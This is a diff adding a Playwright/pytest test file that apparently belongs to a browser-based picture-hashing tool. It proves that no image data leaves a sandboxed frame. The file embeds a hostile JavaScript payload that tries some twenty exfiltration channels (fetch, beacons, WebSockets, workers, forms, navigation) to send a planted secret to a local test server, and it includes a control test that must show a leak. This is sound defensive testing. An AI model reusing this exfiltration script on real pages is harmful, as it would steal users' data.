@@ -1,0 +1,216 @@
+"""The proof that no picture leaves: watched from the browser and from the server, with a control that must leak."""
+
+import base64
+import hashlib
+import json
+import random
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+from PIL import Image
+from playwright.sync_api import Request
+
+pytestmark = pytest.mark.browser
+
+Repin = Callable[..., None]
+
+SECRET = "planted-secret-5f1c"  # noqa: S105 it is what the hostile script tries to get out
+
+HOSTILE_SCRIPT = """
+const secret = "SECRET";
+const server = "SERVER";
+const address = (channel) => `${server}/leak?${channel}=${secret}`;
+const add = (tag, properties) => document.documentElement.append(Object.assign(document.createElement(tag), properties));
+const settled = (start) => new Promise((resolve) => {
+  try { Promise.resolve(start(resolve)).catch(() => {}).finally(resolve); } catch { resolve(); }
+});
+const loaded = (tag, properties) => settled(() => new Promise((resolve) => add(tag, { ...properties, onload: resolve, onerror: resolve })));
+const workerText = `
+  const tries = [
+    () => fetch("${address("worker-fetch")}", { mode: "no-cors" }),
+    () => { const r = new XMLHttpRequest(); r.open("GET", "${address("worker-xhr")}", false); r.send(); },
+    () => importScripts("${address("worker-import")}"),
+    () => import("${address("worker-dynamic-import")}"),
+    () => new WebSocket("${address("worker-socket").replace("http", "ws")}"),
+  ];
+  (async () => { for (const attempt of tries) { try { await attempt(); } catch {} } postMessage("tried"); })();
+`;
+const channels = [
+  () => settled(() => fetch(address("fetch"), { mode: "no-cors" })),
+  () => settled(() => fetch(address("post"), { method: "POST", mode: "no-cors", body: secret })),
+  () => settled((resolve) => { const r = new XMLHttpRequest(); r.onloadend = resolve; r.open("GET", address("xhr")); r.send(); return new Promise(() => {}); }),
+  () => settled(() => { navigator.sendBeacon(address("beacon"), secret); }),
+  () => settled((resolve) => { const s = new WebSocket(address("socket").replace("http", "ws")); s.onerror = s.onclose = resolve; return new Promise(() => {}); }),
+  () => settled((resolve) => { const s = new EventSource(address("events")); s.onerror = () => { s.close(); resolve(); }; return new Promise(() => {}); }),
+  () => loaded("img", { src: address("image") }),
+  () => loaded("script", { src: address("script") }),
+  () => loaded("link", { rel: "stylesheet", href: address("style") }),
+  () => loaded("link", { rel: "preload", as: "image", href: address("preload") }),
+  () => settled(() => { add("link", { rel: "prefetch", href: address("prefetch") }); add("link", { rel: "dns-prefetch", href: address("dns") }); }),
+  () => settled(() => { add("video", { src: address("video") }); add("object", { data: address("object") }); add("embed", { src: address("embed") }); }),
+  () => settled(() => { add("iframe", { src: address("iframe") }); }),
+  () => settled(() => { window.open(address("open")); }),
+  () => settled(() => { top.location = address("top"); }),
+  () => settled(() => { const f = document.createElement("form"); f.action = address("form"); document.body.append(f); f.submit(); }),
+  () => settled(() => import(address("dynamic-import"))),
+  () => settled((resolve) => {
+    const worker = new Worker(URL.createObjectURL(new Blob([workerText])));
+    worker.onmessage = worker.onerror = resolve;
+    return new Promise(() => {});
+  }),
+];
+(async () => {
+  for (const channel of channels) await channel();
+  parent.postMessage("tried", "*");
+  location = address("self");
+})();
+"""
+
+HOSTILE_HOST = """
+addEventListener("message", ({ data }) => { if (data === "tried") window.tried = true; });
+"""
+
+
+def put_hostile_script(desk: Any, repin: Repin, *, loosen: bool) -> None:
+    """Pin a script that tries every way out, as if ours had been replaced; the rest of both policies stays."""
+    script = HOSTILE_SCRIPT.replace("SECRET", SECRET).replace("SERVER", desk.site.origin)
+    policy = f"connect-src {desk.site.origin}" if loosen else "connect-src 'none'"
+    repin(lambda _: script, lambda document: document.replace("connect-src 'none'", policy))
+    desk.site.script = HOSTILE_HOST
+
+
+def run_hostile(desk: Any) -> list[str]:
+    """Let the hostile script try everything; the paths at the server that carry the secret."""
+    desk.page.goto(desk.site.origin)
+    desk.page.wait_for_function("() => window.tried")
+    # Its last try is to leave its own document: wait until that was refused, or went through.
+    frame = desk.page.frames[1]
+    while frame.url == "about:srcdoc":
+        desk.page.wait_for_event("framenavigated")
+    desk.page.evaluate("() => fetch('/last')")
+    assert "/last" in desk.site.paths
+    return [path for _, path, body in desk.site.requests if SECRET in path or SECRET.encode() in body]
+
+
+def test_a_hostile_script_in_the_frame_gets_nothing_out(desk: Any, repin: Repin) -> None:
+    put_hostile_script(desk, repin, loosen=False)
+    assert run_hostile(desk) == []
+
+
+def test_the_proof_can_see_a_leak(desk: Any, repin: Repin) -> None:
+    """A policy with one word too many must turn the proof red, or it proves nothing."""
+    put_hostile_script(desk, repin, loosen=True)
+    leaked = run_hostile(desk)
+    assert {path.split("?")[1].split("=")[0] for path in leaked} >= {"fetch", "post", "xhr", "beacon"}
+
+
+def test_an_unpinned_script_does_not_run(desk: Any) -> None:
+    changed = desk.site.document.replace("&lt;script&gt;", "&lt;script&gt;parent.postMessage(&#x27;tried&#x27;, &#x27;*&#x27;);")
+    assert changed != desk.site.document
+    desk.site.document = changed
+    desk.site.script = HOSTILE_HOST + "window.ready = true;"
+    desk.page.goto(desk.site.origin)
+    desk.page.wait_for_function("() => window.ready")
+    desk.frame.locator("body").wait_for(state="attached")
+    assert desk.page.evaluate("() => window.tried") is None
+    assert desk.frame.locator("fieldset").count() == 0
+
+
+def test_it_works_with_the_network_cut_and_asks_for_nothing(desk: Any, save: Callable[..., Path], photo: Callable[[str], Image.Image]) -> None:
+    path = save("photo.jpg", photo("coffee"), quality=90)
+    desk.open()
+    seen: list[Request] = []
+    desk.page.on("request", lambda request: seen.append(request) if not request.url.startswith("blob:") else None)
+    before = len(desk.site.requests)
+    desk.page.context.set_offline(True)  # noqa: FBT003 playwright's own signature
+    [picture] = desk.hash(path)
+    assert picture["sha256"] == hashlib.sha256(path.read_bytes()).hexdigest()
+    assert picture["pdq"][0][0] == "upright"
+    assert seen == []
+    assert len(desk.site.requests) == before
+
+
+def test_what_is_sent_is_one_small_list_of_hashes(desk: Any, save: Callable[..., Path], photo: Callable[[str], Image.Image]) -> None:
+    image = photo("astronaut")
+    path = save("IMG_20260912_183022.jpg", image, quality=90)
+    sent: list[bytes] = []
+
+    def record(request: Request) -> None:
+        sent.append(request.url.encode())
+        sent.append(json.dumps(request.headers).encode())
+        sent.append(request.post_data_buffer or b"")
+
+    desk.page.on("request", record)
+    sockets: list[object] = []
+    desk.page.on("websocket", lambda socket: sockets.append(socket))
+    desk.open()
+    desk.hash(path)
+    before = len(desk.site.requests)
+    desk.page.evaluate("() => window.send()")
+    [(method, address, body)] = desk.site.requests[before:]
+    assert (method, address) == ("POST", "/send")
+    assert len(body) <= 2500
+    payload = json.loads(body)
+    assert set(payload) == {"spec", "pictures"}
+    assert [set(picture) for picture in payload["pictures"]] == [{"kind", "path", "approx", "md5", "sha256", "pdq"}]
+    assert not sockets
+
+    said = b"\n".join([*sent, *(part for _, where, content in desk.site.requests for part in (where.encode(), content))])
+    assert payload["pictures"][0]["sha256"].encode() in said  # the scan sees what was sent
+    assert b"IMG_2026" not in said
+    for needle in needles(path.read_bytes()) + needles(image.tobytes()):
+        assert needle not in said
+
+
+def needles(content: bytes) -> list[bytes]:
+    """Windows of a file in every form in which they might travel: raw, hex, and base64 from each of three starts."""
+    generator = random.Random(7)
+    found = []
+    for _ in range(64):
+        at = generator.randrange(len(content) - 12)
+        window = content[at : at + 12]
+        if len(set(window)) < 5:
+            continue  # a flat stretch may stand in any file
+        encoded = [base64.b64encode(window[skip:])[: (12 - skip) // 3 * 4] for skip in range(3)]
+        found += [window, window.hex().encode(), *encoded]
+    assert len(found) > 100
+    return found
+
+
+def test_the_page_believes_only_the_frame_and_only_hashes(desk: Any) -> None:
+    desk.open()
+    good = {"kind": "image", "path": "bytes", "approx": False, "md5": "0" * 32, "sha256": "0" * 64, "pdq": []}
+    count = desk.page.evaluate("() => window.changes.length")
+    message = {"type": "pictures", "payload": {"spec": "leeward-hashes:1", "pictures": [good]}}
+    desk.page.evaluate("(message) => new Promise((done) => { addEventListener('message', done, { once: true }); postMessage(message, '*'); })", message)
+    assert desk.page.evaluate("() => window.changes.length") == count  # from the page itself: ignored
+
+    say = "(message) => parent.postMessage(message, '*')"
+    frame = desk.page.frames[1]
+    frame.evaluate(say, message)
+    desk.page.wait_for_function("(count) => window.changes.length === count + 1", arg=count)
+    assert desk.pictures() == [good]
+    message["payload"]["pictures"] = [good | {"note": "a secret that rides along"}]
+    frame.evaluate(say, message)
+    desk.page.wait_for_function("(count) => window.changes.length === count + 2", arg=count)
+    assert desk.pictures() == []
+
+
+def test_a_changed_tool_is_not_used(desk: Any, save: Callable[..., Path], photo: Callable[[str], Image.Image]) -> None:
+    """The frame checks what the page hands it: a server that swaps a decoder gets it refused."""
+    answer = desk.site.answer
+
+    def swapped(path: str) -> tuple[str, bytes] | None:
+        found = answer(path)
+        return (found[0], found[1] + b"\n") if found and path.endswith("libheif.js") else found
+
+    desk.site.answer = swapped
+    desk.open()
+    desk.frame.get_by_text("We could not load all the tools").wait_for()
+
+
+def test_no_peer_connections_in_the_frame(desk: Any) -> None:
+    desk.open()
+    assert desk.page.frames[1].evaluate("() => [typeof RTCPeerConnection, typeof webkitRTCPeerConnection]") == ["undefined"] * 2
